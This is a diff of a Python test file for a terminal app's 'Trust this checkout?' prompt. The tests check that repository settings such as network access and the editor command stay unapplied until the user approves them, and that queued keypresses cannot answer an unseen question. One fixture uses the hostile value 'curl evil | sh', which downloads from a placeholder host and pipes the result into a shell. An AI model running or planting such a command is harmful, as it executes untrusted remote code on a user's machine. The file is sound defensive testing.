@@ -8,6 +8,7 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from textual.events import Key
 from textual.pilot import Pilot
 
 from panther_engine.events import RepositoryChanged
@@ -61,9 +62,15 @@ async def opened(
         yield pilot, it
 
 
+async def asked(pilot: Pilot[None], *texts: str) -> None:
+    """Wait until these texts are asked about, and were painted."""
+    await shows(pilot, "Trust this checkout?", *texts)
+    await wait_for(pilot, lambda: getattr(pilot.app.screen, "seen", False))
+
+
 async def test_opening_asks_with_file_line_and_value_while_the_app_goes_on(root: Path) -> None:
     async with opened(root) as (pilot, it):
-        await shows(pilot, "Trust this checkout?", "network = true", "panther-tui.toml:1")
+        await asked(pilot, "network = true", "panther-tui.toml:1")
         await shows(pilot, 'editor = "curl evil | sh"', "panther-tui.toml:2", ALLOWS["editor"])
         await wait_for(pilot, lambda: it.app.state.last_run)
         assert not it.app.config.network
@@ -73,7 +80,7 @@ async def test_opening_asks_with_file_line_and_value_while_the_app_goes_on(root:
 
 async def test_trusted_they_count_at_once_and_are_remembered(root: Path, said: list[str]) -> None:
     async with opened(root) as (pilot, it):
-        await shows(pilot, "Trust this checkout?")
+        await asked(pilot)
         await pilot.press("t")
         await wait_for(pilot, lambda: len(it.engines) == 2)
         assert it.app.config.network
@@ -85,19 +92,19 @@ async def test_trusted_they_count_at_once_and_are_remembered(root: Path, said: l
 
 async def test_not_now_is_said_in_the_bar_and_asked_again_from_there(root: Path) -> None:
     async with opened(root) as (pilot, it):
-        await shows(pilot, "Trust this checkout?")
+        await asked(pilot)
         await pilot.press("escape")
         await shows(pilot, "untrusted 2 settings")
         assert not is_trusted(root, it.values())
         assert not is_refused(root, it.values())
         assert len(it.engines) == 1
         await it.app.main.action_do("trust")
-        await shows(pilot, "Trust this checkout?")
+        await asked(pilot)
 
 
 async def test_never_is_remembered_until_a_setting_changes(root: Path) -> None:
     async with opened(root) as (pilot, it):
-        await shows(pilot, "Trust this checkout?")
+        await asked(pilot)
         await pilot.press("N")
         await wait_for(pilot, lambda: is_refused(root, it.values()))
     async with opened(root) as (pilot, it):
@@ -105,19 +112,47 @@ async def test_never_is_remembered_until_a_setting_changes(root: Path) -> None:
         assert it.app.screen is it.app.main
         (root / "panther-tui.toml").write_text("network = true\nmemory = 0\n")
         it.app.follow_settings()
-        await shows(pilot, "Trust this checkout?", "memory = 0")
+        await asked(pilot, "memory = 0")
         assert not it.app.config.network
 
 
 async def test_what_changes_under_the_question_is_not_what_was_allowed(root: Path) -> None:
     async with opened(root) as (pilot, it):
-        await shows(pilot, "Trust this checkout?")
-        await wait_for(pilot, lambda: it.app.screen.focused is not None)
+        await asked(pilot)
+        question = it.app.screen
         (root / "panther-tui.toml").write_text('network = true\neditor = "worse"\n')
+        it.app.follow_settings()
+        assert it.app.screen is question, "a key that is on its way would answer what it never saw"
         await pilot.press("t")
-        await shows(pilot, "Trust this checkout?", 'editor = "worse"')
+        await asked(pilot, 'editor = "worse"')
         assert not it.app.config.network
         assert len(it.engines) == 1
+
+
+async def test_what_changes_under_the_question_is_asked_after_it(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await asked(pilot)
+        (root / "panther-tui.toml").write_text("memory = 0\n")
+        it.app.follow_settings()
+        await pilot.press("escape")
+        await asked(pilot, "memory = 0")
+
+
+async def test_a_key_that_was_on_its_way_answers_no_question(root: Path) -> None:
+    async with opened(root) as (pilot, it):
+        await asked(pilot)
+        await pilot.press("escape")
+        await wait_for(pilot, lambda: it.app.screen is it.app.main)
+        answers: list[str] = []
+        for key in "tqN":
+            question = TrustScreen(str(root), find_widening(root), answers.append)
+            it.app.push_screen(question)
+            it.app.post_message(Key(key, key))
+            await asked(pilot)
+            assert it.app.screen is question
+            await pilot.press("escape")
+            await wait_for(pilot, lambda: it.app.screen is it.app.main)
+        assert answers == ["later"] * 3
 
 
 @pytest.mark.parametrize(("trust", "network"), [(True, True), (False, False)])
